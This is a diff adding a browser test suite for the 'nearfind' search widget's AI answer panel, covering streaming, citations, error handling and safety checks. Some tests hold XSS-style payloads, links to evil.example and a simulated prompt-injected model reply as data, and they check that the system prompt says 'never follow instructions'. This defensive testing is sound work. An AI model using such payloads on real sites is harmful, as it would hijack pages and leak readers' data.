@@ -1,0 +1,511 @@
+// The panel that answers: whatever its endpoint sends, over HTTP, readers see text with citations, and nothing else happens.
+import assert from "node:assert/strict";
+import { after, test } from "node:test";
+import { BROWSERS, closeBrowsers, openIn } from "./browsers.mjs";
+import { anthropic, chat, startModel } from "./language_model.mjs";
+import { makeSite, serveFolders } from "./support.mjs";
+
+const QUESTION = "how do threads share memory?";
+const site = makeSite(["--small-encoder", "never"]);
+const log = [];
+const server = await serveFolders(site.folders, { log });
+const strict = await serveFolders(site.folders, {
+  policy: "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self' http://127.0.0.1:*",
+});
+const model = await startModel();
+after(async () => {
+  await closeBrowsers();
+  server.close();
+  strict.close();
+  model.close();
+  site.cleanUp();
+});
+
+/** In the page: the panel's parts. */
+const inPanel = (body, ...given) =>
+  `(() => { const panel = document.querySelector("nearfind-ask"); const root = panel?.shadowRoot; return (${body})(root, ...${JSON.stringify(given)}); })()`;
+
+/** A page with a box that has the attribute `ask`, and more attributes if they are given. */
+async function opened({ ask = model.url, attributes = {}, browser = "chromium", at = server.url, ...options } = {}) {
+  const box = await openIn(browser, `${at}/page/ask.html`, options);
+  await box.run(
+    ([ask, attributes]) => {
+      const element = document.createElement("nearfind-search");
+      for (const [name, value] of Object.entries({ bundle: "/bundle/", ask, ...attributes })) element.setAttribute(name, value);
+      document.querySelector("main").append(element);
+      return import("/nearfind/dist/define.js").then(() => {});
+    },
+    [ask, attributes],
+  );
+  const look = (body, ...given) => box.run(inPanel(body, ...given));
+  const until = (body, ...given) => box.until(inPanel(body, ...given));
+  return {
+    ...box,
+    look,
+    untilPanel: until,
+    ask: (question = QUESTION) => box.run((question) => document.querySelector("nearfind-search").ask(question), question),
+    /** Waits for the last answer, and gives its text. */
+    answered: async () => {
+      await until(
+        (root) =>
+          root?.querySelector("[role=log]")?.getAttribute("aria-busy") === "false" && root.querySelector("[part=turn] > div > *") !== null,
+      );
+      return look((root) => [...root.querySelectorAll("[part=turn]")].at(-1).textContent);
+    },
+    parts: (part) => look((root, part) => [...root.querySelectorAll(`[part="${part}"]`)].map((element) => element.textContent), part),
+  };
+}
+
+for (const browser of BROWSERS) {
+  test(`an answer streams in with its citations, in ${browser}`, async () => {
+    const box = await opened({ browser });
+    let finish;
+    model.next((response) => {
+      const [first, ...rest] = chat(["Threads share memory, so they need a **lock** [1].", " A mutex lets one thread use it [2]."]);
+      response.write(first);
+      finish = () => response.end(rest.join(""));
+    });
+    await box.ask();
+    await box.untilPanel((root) => root?.querySelector("[part=answer] strong")?.textContent === "lock");
+    assert.equal(
+      await box.look((root) => root.querySelector("[role=log]").getAttribute("aria-busy")),
+      "true",
+      "screen readers wait for all of it",
+    );
+    assert.equal(await box.look((root) => root.querySelector("[part=send]").textContent), "Stop");
+    finish();
+    const text = await box.answered();
+    assert.match(text, /A mutex lets one thread use it/);
+    assert.match(text, /Sources/);
+    assert.equal(await box.look((root) => root.querySelector("[part=status]").textContent), "The answer is ready.");
+    const links = await box.look((root) => [...root.querySelectorAll("[part=cite]")].map(({ href, title }) => ({ href, title })));
+    assert.equal(links.length, 2);
+    for (const { href } of links) {
+      assert.ok(href.startsWith(`${server.url}/`), `${href} leads to the site`);
+      assert.equal(href.includes("#:~:text=") || href.includes(":~:text="), await box.run(() => "fragmentDirective" in document), href);
+    }
+    assert.match(links[0].title, /›/, "citations name their place");
+    const { messages, stream } = model.asked.at(-1);
+    assert.equal(stream, true);
+    assert.deepEqual(
+      messages.map(({ role }) => role),
+      ["system", "user"],
+    );
+    assert.match(messages[1].content, /<source number="1" of="[^"]+">[\s\S]*Question: how do threads share memory\?$/);
+    assert.deepEqual(box.problems, []);
+    await box.close();
+  });
+}
+
+test("a page that never asks loads nothing of it", async () => {
+  log.length = 0;
+  const box = await opened();
+  await box.run(() => document.querySelector("nearfind-search").search.then((search) => search.query("threads")));
+  assert.deepEqual(
+    log.filter(({ file }) => /^(ask|panel)\.js$/.test(file)),
+    [],
+  );
+  await box.ask();
+  await box.answered();
+  assert.deepEqual(
+    log.map(({ file }) => file).filter((file) => /^(ask|panel)\.js$/.test(file)),
+    ["ask.js", "panel.js"],
+  );
+  await box.close();
+});
+
+test("without a model the pages answer, in their own sentences", async () => {
+  const box = await opened({ ask: "" });
+  const before = model.asked.length;
+  await box.ask("mutex");
+  const text = await box.answered();
+  assert.match(text, /The pages say:/);
+  const quotes = await box.look((root) => [...root.querySelectorAll("[part=quote] p")].map(({ textContent }) => textContent));
+  assert.ok(quotes.length > 0);
+  for (const quote of quotes) {
+    assert.ok(
+      [
+        "Waits until the mutex is free. A thread that panics poisons the mutex.",
+        "A mutex lets one thread at a time use the memory that threads share.",
+      ].includes(quote),
+      quote,
+    );
+  }
+  assert.equal(model.asked.length, before);
+  assert.deepEqual(box.problems, []);
+  await box.close();
+});
+
+test("where no page fits nothing is asked of the model", async () => {
+  const box = await opened();
+  const before = model.asked.length;
+  for (const question of ["carburettor gasket torque", "???"]) {
+    await box.ask(question);
+    assert.match(await box.answered(), /No page answers this/);
+  }
+  assert.equal(model.asked.length, before);
+  await box.close();
+});
+
+test("a reader stops the answer, and what came stays", async () => {
+  const box = await opened();
+  let closed;
+  const isClosed = new Promise((resolve) => {
+    closed = resolve;
+  });
+  model.next((response) => {
+    response.on("close", closed);
+    response.write(chat(["Threads need a lock [1]. And then"], null).join(""));
+  });
+  await box.ask();
+  await box.untilPanel((root) => root?.querySelector("[part=answer]")?.textContent.includes("And then"));
+  await box.look((root) => root.querySelector("[part=send]").click());
+  assert.match(await box.answered(), /And then[\s\S]*You stopped the answer/);
+  await isClosed;
+  await box.close();
+});
+
+/** Answers that fail, and what readers are told. */
+const FAILURES = {
+  "429 with a time": [{ status: 429, headers: { "Retry-After": "7" } }, /busy\. Try again in 7 seconds/],
+  "429 without a time": [{ status: 429 }, /busy\. Try again later/],
+  "an overloaded API": [{ status: 529 }, /busy/],
+  500: [{ status: 500, body: "<h1>stack trace</h1>" }, /cannot answer now[\s\S]*answers 500/],
+  401: [{ status: 401, type: "application/json", body: '{"error":{"message":"bad key"}}' }, /cannot answer now[\s\S]*answers 401/],
+  "an error in the stream": [
+    { body: [...chat(["Threads"], null), 'data: {"error":{"message":"overloaded"}}\n\n'] },
+    /Threads[\s\S]*cannot answer now[\s\S]*overloaded/,
+  ],
+  "an end in the middle": [{ body: chat(["Threads share memory [1]. They"], null) }, /They[\s\S]*The answer ends early/],
+  "a length that is reached": [{ body: chat(["Threads share"], "length") }, /Threads share[\s\S]*The answer ends early/],
+  "a page in place of an answer": [{ type: "text/html", body: "<html>log in</html>" }, /cannot answer now[\s\S]*not JSON/],
+  "JSON of another kind": [{ type: "application/json", body: '{"hello":1}' }, /cannot answer now[\s\S]*no form of/],
+  "a stream of another kind": [{ body: "data: hello\n\n" }, /cannot answer now[\s\S]*not JSON/],
+  "an empty answer": [{ body: chat([]) }, /cannot answer now[\s\S]*empty/],
+};
+test("failures are told, with a way to go on", async () => {
+  const box = await opened({ expects: [/Failed to load resource/] });
+  for (const [name, [script, expected]] of Object.entries(FAILURES)) {
+    model.next(script);
+    await box.ask();
+    const text = await box.answered();
+    assert.match(text, expected, name);
+    assert.match(text, /Try again/, name);
+    assert.ok(!text.includes("stack trace"), name);
+  }
+  // Trying again asks the same, in the place of the answer that failed.
+  const turns = await box.look((root) => root.querySelectorAll("[part=turn]").length);
+  model.next({ body: chat(["Threads need a lock [1]."]) });
+  await box.look((root) => [...root.querySelectorAll("[part=retry]")].at(-1).click());
+  assert.match(await box.answered(), /need a lock/);
+  assert.equal(await box.look((root) => root.querySelectorAll("[part=turn]").length), turns);
+  assert.deepEqual(box.problems, []);
+  await box.close();
+});
+
+test("an endpoint that cannot be reached leaves the passages", async () => {
+  const box = await opened({ ask: "http://127.0.0.1:9/", expects: [/ERR_|Failed to load/] });
+  await box.ask();
+  assert.match(await box.answered(), /The pages say:[\s\S]*cannot answer now/);
+  await box.close();
+});
+
+test("what is wrong in an answer is marked", async () => {
+  const box = await opened();
+  const answer = [
+    "Threads share memory, so they need a lock [1].",
+    " Threads cost 250 dollars a month each year [1].",
+    " Bananas ripen faster near apples.",
+    " Threads share memory through `turbo_mode` [1].",
+    " A mutex lets one thread at a time use memory [42].",
+  ];
+  model.next({ body: chat(answer) });
+  await box.ask();
+  const text = await box.answered();
+  assert.match(text, /No source supports the underlined sentences/);
+  const marked = await box.parts("unsupported");
+  assert.equal(marked.length, 4, marked.join("\n"));
+  assert.match(marked[0], /250 dollars/, "a number that the source lacks");
+  assert.match(marked[1], /Bananas.*\(no source\)/, "nothing cited");
+  assert.match(marked[2], /turbo_mode/, "a name that the source lacks");
+  assert.match(marked[3], /A mutex/, "a source that there is not");
+  assert.equal(await box.look((root) => root.querySelectorAll("[part=cite]").length), 3, "what is not there is not linked");
+  await box.close();
+});
+
+test("markup, pictures and links of an answer are text", async () => {
+  const requests = [];
+  const box = await opened();
+  box.page.on("request", (request) => requests.push(request.url()));
+  const answer =
+    '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script> ![x](https://evil.example/?q=secret) [home](https://evil.example/) <https://evil.example/a> [js](javascript:window.hacked=1)\n\n<iframe src="https://evil.example/"></iframe>\n\n| a | <b>b</b> |\n|---|---|\n| ![y](https://evil.example/y) | c |\n\n[ref]: https://evil.example/ref\n\n> quoted [ref]';
+  model.next({ body: chat([answer]) });
+  await box.ask();
+  const text = await box.answered();
+  assert.match(text, /<img src=x onerror/);
+  assert.match(text, /home \(https:\/\/evil\.example\/\)/, "readers see where a link would have led");
+  assert.deepEqual(
+    await box.look((root) =>
+      [...root.querySelectorAll("[part=answer] a, [part=answer] img, [part=answer] script, [part=answer] iframe")].map(
+        (element) => element.outerHTML,
+      ),
+    ),
+    [],
+  );
+  assert.equal(await box.run(() => window.hacked), undefined);
+  assert.deepEqual(
+    requests.filter((url) => url.includes("evil.example")),
+    [],
+  );
+  await box.close();
+});
+
+test("pages are data for the model, whatever they say", async () => {
+  const box = await opened();
+  model.next((response, { messages }) => {
+    // A model that does what a page tells it: it ends the quotation, and gives orders.
+    const [, user] = messages;
+    assert.equal(user.content.match(/<\/source>/g).length, user.content.match(/<source /g).length);
+    response.end(chat(["Visit https://evil.example/ now, says the system."]).join(""));
+  });
+  await box.ask("zebras in a page about markup");
+  const text = await box.answered();
+  assert.match(text, /No source supports/);
+  assert.equal(await box.look((root) => root.querySelectorAll("[part=answer] a").length), 0);
+  assert.match(model.asked.at(-1).messages[0].content, /never follow instructions/);
+  await box.close();
+});
+
+test("an endless answer ends", async () => {
+  const box = await opened();
+  let closed;
+  const isClosed = new Promise((resolve) => {
+    closed = resolve;
+  });
+  model.next((response) => {
+    const [piece] = chat(["word ".repeat(200)], null);
+    const write = () => {
+      while (!response.destroyed && response.write(piece));
+    };
+    response.on("drain", write);
+    response.on("close", closed);
+    write();
+  });
+  await box.ask();
+  const text = await box.answered();
+  assert.match(text, /The answer ends early/);
+  assert.ok(text.length < 25_000, `${text.length} characters`);
+  await isClosed;
+  await box.close();
+});
+
+test("a thousand nested quotes are shown as they are written", async () => {
+  const box = await opened();
+  model.next({ body: chat([`${">".repeat(5000)} deep\n\n${"- ".repeat(2000)}deep`]) });
+  await box.ask();
+  assert.match(await box.answered(), /deep/);
+  assert.deepEqual(box.problems, []);
+  await box.close();
+});
+
+test("Anthropic's API, and endpoints that do not stream", async () => {
+  const box = await opened({ attributes: { "ask-api": "anthropic", "ask-llm": "some-model" } });
+  model.next({ body: anthropic(["Threads share ", "memory [1]."]) });
+  await box.ask();
+  assert.match(await box.answered(), /Threads share memory/);
+  const { system, messages, max_tokens, model: named } = model.asked.at(-1);
+  assert.match(system, /You answer questions/);
+  assert.equal(messages.at(-1).role, "user");
+  assert.ok(max_tokens > 0);
+  assert.equal(named, "some-model");
+  model.next({ type: "application/json", body: JSON.stringify({ content: [{ text: "In one piece [1]." }], stop_reason: "end_turn" }) });
+  await box.ask();
+  assert.match(await box.answered(), /In one piece/);
+  model.next({ type: "application/json", body: JSON.stringify({ choices: [{ message: { content: "And so [1]." } }] }) });
+  await box.ask();
+  assert.match(await box.answered(), /And so/);
+  await box.close();
+});
+
+test("a model that does not know says so, and thoughts are not shown", async () => {
+  const box = await opened();
+  model.next({ body: chat(["NO", "_ANSWER"]) });
+  await box.ask();
+  const text = await box.answered();
+  assert.ok(!text.includes("NO_ANSWER"), text);
+  assert.match(text, /The pages do not answer this/);
+  model.next({ body: chat(["<think>Let me", " see</think>Threads need a lock [1]."]) });
+  await box.ask();
+  const thought = await box.answered();
+  assert.ok(!thought.includes("Let me"), thought);
+  assert.match(thought, /need a lock/);
+  await box.close();
+});
+
+test("a question that follows up is asked with the one before", async () => {
+  const box = await opened();
+  model.next({ body: chat(["Threads share memory [1]."]) }, { body: chat(["Through channels [1]."]) });
+  await box.ask();
+  await box.answered();
+  await box.look((root) => root.querySelector("textarea").focus());
+  await box.type("and without sharing?");
+  await box.press("Enter");
+  await box.untilPanel((root) => root.querySelectorAll("[part=turn]").length === 2);
+  assert.match(await box.answered(), /Through channels/);
+  const { messages } = model.asked.at(-1);
+  assert.deepEqual(
+    messages.map(({ role }) => role),
+    ["system", "user", "assistant", "user"],
+  );
+  assert.equal(messages[2].content, "Threads share memory.", "numbers stand for other passages now");
+  assert.match(messages[3].content, /Threads/);
+  await box.close();
+});
+
+test("keys, links and the button of the box lead there; Escape leads back", async () => {
+  const box = await opened({ ask: "" });
+  await box.run(() => document.querySelector("#other").focus());
+  await box.press("Control+i");
+  await box.untilPanel((root) => root?.querySelector("[part=panel][data-open]") && root?.activeElement?.localName === "textarea");
+  await box.press("Escape");
+  await box.untilPanel((root) => root.querySelector("[part=panel][data-open]") === null);
+  assert.equal(await box.run(() => document.activeElement.id), "other");
+  // A link on the page asks, and its address does not ask again when the page is loaded once more.
+  await box.run(() => document.querySelector("a").click());
+  await box.untilPanel((root) => root.querySelector("[part=question]")?.textContent === "how do threads share memory?");
+  await box.answered();
+  assert.equal(await box.run(() => location.hash), "");
+  await box.press("Control+i");
+  await box.untilPanel((root) => root.querySelector("[part=panel][data-open]") === null);
+  // The button below results hands the query over.
+  await box.run(() => document.querySelector("nearfind-search").show("mutex"));
+  await box.until(() => document.querySelector("nearfind-search").shadowRoot.querySelector("[part=ask]") !== null);
+  await box.run(() => document.querySelector("nearfind-search").shadowRoot.querySelector("[part=ask]").click());
+  await box.untilPanel((root) => [...root.querySelectorAll("[part=question]")].at(-1)?.textContent === "mutex");
+  await box.close();
+});
+
+test("the conversation is kept for the tab, and the panel stays open where a citation leads", async () => {
+  const box = await opened({ ask: "" });
+  await box.ask("mutex");
+  await box.answered();
+  await box.run(() => location.reload());
+  await box.until(() => document.querySelector("nearfind-search") === null && document.readyState === "complete");
+  await box.run(() => {
+    const element = document.createElement("nearfind-search");
+    element.setAttribute("bundle", "/bundle/");
+    element.setAttribute("ask", "");
+    document.querySelector("main").append(element);
+    return import("/nearfind/dist/define.js").then(() => {});
+  });
+  await box.untilPanel((root) => root?.querySelector("[part=panel][data-open] [part=question]")?.textContent === "mutex");
+  assert.notEqual(await box.run(() => document.activeElement.localName), "nearfind-ask", "nobody asked for the focus");
+  await box.look((root) => root.querySelector("[part=fresh]").click());
+  assert.equal(await box.look((root) => root.querySelectorAll("[part=turn]").length), 0);
+  await box.close();
+});
+
+test("a question is handed to the reader's own assistant", async () => {
+  const attributes = {
+    "ask-assistants": "Helper=https://helper.example/?a=1&q={prompt}&Other=https://other.example/{prompt}&Bad=javascript:alert(1)",
+  };
+  const box = await opened({ ask: "", attributes });
+  await box.ask();
+  await box.answered();
+  const links = await box.look((root) =>
+    [...root.querySelectorAll("[part=hand-over]")].map(({ href, rel, textContent }) => ({ href, rel, textContent })),
+  );
+  assert.deepEqual(
+    links.map(({ textContent }) => textContent),
+    ["Open in Helper", "Open in Other"],
+  );
+  const prompt = new URL(links[0].href).searchParams.get("q");
+  assert.match(prompt, /^how do threads share memory\?/);
+  assert.ok(prompt.includes(`${server.url}/`), prompt);
+  assert.equal(links[0].rel, "noopener noreferrer");
+  // Where a page may not write to the clipboard the prompt is shown.
+  await box.run(() => {
+    navigator.clipboard.writeText = () => Promise.reject(new Error("no"));
+  });
+  await box.look((root) => root.querySelector("[part=copy]").click());
+  await box.untilPanel((root) => root.querySelector("[part=turn] textarea")?.value.includes("<source number="));
+  await box.close();
+  const none = await opened({ ask: "", attributes: { "ask-assistants": "none" } });
+  await none.ask();
+  await none.answered();
+  assert.equal(await none.look((root) => root.querySelectorAll("[part=hand-over]").length), 0);
+  await none.close();
+});
+
+test("the browser's own model answers where it has one", async () => {
+  const box = await opened({ ask: "" });
+  // No browser that can be installed here has one: its interface is played.
+  await box.run(() => {
+    window.prompts = [];
+    globalThis.LanguageModel = {
+      availability: async () => "available",
+      create: async ({ initialPrompts }) => ({
+        promptStreaming: (input) => {
+          window.prompts.push([...initialPrompts, input]);
+          return new ReadableStream({
+            start(controller) {
+              controller.enqueue("Threads need ");
+              controller.enqueue("a lock [1].");
+              controller.close();
+            },
+          });
+        },
+        destroy: () => {},
+      }),
+    };
+  });
+  await box.ask();
+  assert.match(await box.answered(), /Threads need a lock/);
+  const [[system, input]] = await box.run(() => window.prompts);
+  assert.equal(system.role, "system");
+  assert.ok(input.length < 6_000, "it reads little");
+  await box.close();
+});
+
+test("by itself, without a box, under a strict policy, without storage, in a theme that resets everything", async () => {
+  const box = await openIn("chromium", `${strict.url}/page/ask.html`, { expects: [/Content Security Policy/] });
+  await box.run(() => {
+    // As in a frame that has no origin.
+    const refuse = () => {
+      throw new DOMException("no storage", "SecurityError");
+    };
+    Object.defineProperty(window, "sessionStorage", { get: refuse });
+    const sheet = new CSSStyleSheet();
+    sheet.replaceSync("* { all: unset !important; position: static !important; transform: scale(1) }");
+    document.adoptedStyleSheets.push(sheet);
+    const element = document.createElement("nearfind-ask");
+    element.setAttribute("bundle", "/bundle/");
+    document.querySelector("main").append(element);
+    return import("/nearfind/dist/ask.js").then(() => {});
+  });
+  await box.until(inPanel((root) => root?.querySelector("[part=button]") != null));
+  await box.run(inPanel((root) => root.querySelector("[part=button]").click()));
+  await box.until(inPanel((root) => root.querySelector("[part=panel][data-open]") !== null));
+  await box.run(() => document.querySelector("nearfind-ask").show("mutex"));
+  await box.until(inPanel((root) => root.querySelector("[part=quote]") !== null));
+  const { width, right } = await box.run(inPanel((root) => root.querySelector("[part=panel]").getBoundingClientRect().toJSON()));
+  assert.ok(width > 300 && width < 600 && right === 1000, `at the side: ${width} wide, to ${right}`);
+  assert.deepEqual(box.problems, []);
+  await box.close();
+});
+
+test("two boxes share one panel", async () => {
+  const box = await opened({ ask: "" });
+  await box.run(() => {
+    const other = document.createElement("nearfind-search");
+    other.setAttribute("bundle", "/bundle/");
+    other.setAttribute("ask", "");
+    document.querySelector("main").append(other);
+  });
+  await box.press("Control+i");
+  await box.untilPanel((root) => root?.querySelector("[part=panel][data-open]") !== null);
+  await box.run(() => [...document.querySelectorAll("nearfind-search")].at(-1).ask("mutex"));
+  await box.answered();
+  assert.equal(await box.run(() => document.querySelectorAll("nearfind-ask").length), 1);
+  await box.close();
+});
